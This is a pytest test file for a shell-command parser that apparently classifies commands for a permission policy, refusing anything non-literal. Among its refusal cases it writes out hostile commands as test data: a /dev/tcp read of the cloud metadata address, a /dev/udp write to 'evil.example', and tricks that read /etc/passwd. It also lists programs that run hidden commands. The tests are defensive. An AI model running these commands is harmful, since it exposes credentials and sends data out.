"""Shell scripts by kind of syntax: literal ones are read, everything else is refused."""

from __future__ import annotations

import pytest

from policy.values import Redirection, Script, SimpleCommand, Unreadable, read_script


def commands(text: str) -> tuple[SimpleCommand, ...]:
    script = read_script(text)
    assert isinstance(script, Script), script
    return script.commands


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("git status", [["git", "status"]]),
        ("  a\tb  ", [["a", "b"]]),
        ("a; b && c || d | e & f", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]),
        ("a\nb\n\n", [["a"], ["b"]]),
        ("a &&\n b", [["a"], ["b"]]),
        ("a;", [["a"]]),
        ("a # b; c", [["a"]]),
        ("a#b", [["a#b"]]),
        ("# a\nb", [["b"]]),
        ("", []),
        ("r''m 'a b' \"c d\"", [["rm", "a b", "c d"]]),
        (r"""a "\"\\\$x\`" "\n" """, [["a", '"\\$x`', "\\n"]]),
        (r"a \$\(b\) \; \*", [["a", "$(b)", ";", "*"]]),
        ("a \\\n  b\\\nc", [["a", "bc"]]),
        ("a '' \"\"", [["a", "", ""]]),
        ("a x=1 HEAD~1 a^b", [["a", "x=1", "HEAD~1", "a^b"]]),
        ("a 'é*?[$(`{'", [["a", "é*?[$(`{"]]),
    ],
)
def test_literal_commands_are_read(text: str, words: list[list[str]]) -> None:
    assert [list(command.words) for command in commands(text)] == words


@pytest.mark.parametrize(
    "text",
    [
        "a $b", "a ${b}", "a $(b)", "a `b`", 'a "$b"', 'a "`b`"', "a $'b'", 'a $"b"', "a $((1))",
        "a *", "a ?", "a [b]", "a {b,c}", "(a)", "{ a; }", "a() { b; }", "! a", "a !b",
        "a <<E\nb\nE", "a <<<b", "a <(b)", "a >(b)", "a ~b", "a '~'/b", "a \\~/b", "a ''~/b",
        "a=~/b c", "a --b=~/c", "a =b",
        "if a; then b; fi", "while a; do b; done", "for a in b; do c; done",
        "case a in b) c;; esac",
        "[[ a ]]", "time a", "coproc a", "function a", "do a", "'if' a",
        "a 'b", 'a "b', "a \\", "a &&", "a |", "&& a", "; a", "a ;; b", "a |& b", "a && && b",
        "a >", "a > > b", "a >& b c > &", "a 2>& b", "a <& b", "a 2&> b", "a >&1x", "a >&3-",
        "a >&'b'",
        "a\r", "a\x00b", "a\x1b", "a \u200bb", "a\u00a0b", "a \u202eb", "a \ud800", "a e\u0301",
        "a+=b", "a[0]=b", "'' a", "a {fd}> b", "a 1234> b",
    ],
)  # fmt: skip
def test_anything_else_is_refused(text: str) -> None:
    read = read_script(text)
    assert isinstance(read, Unreadable)
    assert len(read.reason) < 120


@pytest.mark.parametrize(
    ("text", "redirections"),
    [
        ("a > b", [Redirection(op=">", target="b")]),
        ("a>>b", [Redirection(op=">>", target="b")]),
        ("a < 'b c'", [Redirection(op="<", target="b c")]),
        ("a 2> b", [Redirection(op=">", target="b", fd=2)]),
        ("a2> b", [Redirection(op=">", target="b")]),
        ("a >| b", [Redirection(op=">|", target="b")]),
        ("a <> b", [Redirection(op="<>", target="b")]),
        ("a &> b", [Redirection(op="&>", target="b")]),
        ("a &>> b", [Redirection(op="&>>", target="b")]),
        ("a >& b", [Redirection(op="&>", target="b")]),
        ("a 2>&1", [Redirection(op=">&", target="1", fd=2)]),
        ("a >&-", [Redirection(op=">&", target="-")]),
        ("> b", [Redirection(op=">", target="b")]),
        ("a > /dev/null 2>&1", [
            Redirection(op=">", target="/dev/null"), Redirection(op=">&", target="1", fd=2)]),
    ],
)  # fmt: skip
def test_redirections_are_taken_off(text: str, redirections: list[Redirection]) -> None:
    assert [list(command.redirections) for command in commands(text)] == [redirections]


def test_leading_assignments_are_taken_off() -> None:
    (command,) = commands("A=1 B='x y' _c= prog D=2")
    assert command.assignments == (("A", "1"), ("B", "x y"), ("_c", ""))
    assert command.words == ("prog", "D=2")
    assert commands("LC_ALL=C")[0].words == ()


@pytest.mark.parametrize(
    "text",
    [
        "HOME=/etc; cat ~/passwd",
        "A=1",
        "CDPATH=/; cd etc && cat passwd",
        "CDPATH=/ cd etc && cat passwd",
        "cat < /dev/tcp/169.254.169.254/80",
        "echo x > /dev/udp/evil.example/53",
    ],
)
def test_what_changes_the_shell_or_connects_by_it_is_unreadable(text: str) -> None:
    assert isinstance(read_script(text), Unreadable)
    # A quoted name or `=` makes it a word.
    assert commands("'A'=1")[0].words == ("A=1",)
    assert commands("A'='1")[0].words == ("A=1",)


def test_a_command_knows_its_text() -> None:
    assert [each.text for each in commands("a  'b' >c; d # e\nf &")] == ["a  'b' >c", "d", "f"]


@pytest.mark.parametrize(
    ("text", "folders"),
    [
        ("a", [()]),
        ("cd x && a", [(), ("x",)]),
        ("cd x && cd y && a", [(), ("x",), ("x", "y")]),
        ("cd x && cd /y && a", [(), ("x",), ("/y",)]),
        ("cd && a", [(), ("~",)]),
        ("a && cd x && b", [(), (), ("x",)]),
        ("cd x; a", [(), None]),
        ("cd x\na", [(), None]),
        ("cd x && a; b", [(), ("x",), None]),
        ("cd x; cd /y && a", [(), None, ("/y",)]),
        ("cd x || a", [(), None]),
        ("a || cd x && b", [(), (), None]),
        ("cd x | a", [(), None]),
        ("a | cd x && b", [(), (), None]),
        ("cd - && a", [(), None]),
        ("cd -P x && a", [(), None]),
        ("pushd x && a", [(), None]),
    ],
)
def test_the_folder_is_known_only_where_cd_surely_ran(
    text: str, folders: list[tuple[str, ...] | None]
) -> None:
    assert [command.folders for command in commands(text)] == folders


@pytest.mark.parametrize(
    "text",
    [
        "cd",
        "cd x",
        "pwd",
        "pwd -P",
        "true",
        "false x",
        ": y",
        "cd x >/dev/null 2>&1",
        "LC_ALL=C true",
    ],
)
def test_some_commands_are_free(text: str) -> None:
    assert commands(text)[0].free


@pytest.mark.parametrize(
    "text", ["cd -", "cd x y", "true > f", "PATH=x true", "/bin/true", "echo", "> f", "LANG=C"]
)
def test_others_are_not(text: str) -> None:
    assert not commands(text)[0].free


@pytest.mark.parametrize(
    "text",
    [
        "sudo x", "/usr/bin/env x", "bash x", "sh -c x", "xargs x", "nohup x", "busybox x", ". x",
        "source x", "eval x", "exec 3>f", "python -c x", "python3.11 -c x", "python3", "perl -e x",
        "node -e x", "find . -exec x", "find . -okdir x", "git -c a=b status", "git rebase x",
        "git fetch ext::sh", "git --exec-path=x status", "tar --to-command=x", "sed 'w x' y",
        "awk x", "less x", "vim x", "ssh x", "export A=b", "alias a=b", "trap x EXIT", "uv run x",
        "printf -v a b", "flock x", "unshare x", "script -c x", "parallel x", "dd of=x",
    ],
)  # fmt: skip
def test_programs_that_run_others_hide_them(text: str) -> None:
    assert commands(text)[0].hides


@pytest.mark.parametrize(
    "text",
    ["git status", "git log --oneline -5", "ls -la", "grep -r x .", "find . -name x", "cat x",
     "sed -n 1,5p x", "python manage.py test", "pytest -q", "make test", "jq -r .a x", "rm -rf x"],
)  # fmt: skip
def test_ordinary_programs_hide_nothing(text: str) -> None:
    assert not commands(text)[0].hides


def test_code_that_runs_is_unseen() -> None:
    unseen = ["python x.py", "./build.sh", "make", "pytest x", "npm test", "python3.12 x.py"]
    assert [text for text in unseen if not commands(text)[0].unseen] == []
    assert not commands("git status")[0].unseen


@pytest.mark.parametrize(
    ("text", "may"),
    [
        ("curl intranet", True),
        ("/usr/bin/ssh intranet", True),
        ("git fetch intranet", True),
        ("git", True),
        ("git -C x status", True),
        ("git status", False),
        ("git log main", False),
        ("wc intranet", False),
    ],
)
def test_words_may_be_hosts_only_to_what_connects(text: str, may: bool) -> None:
    assert commands(text)[0].names_hosts is may
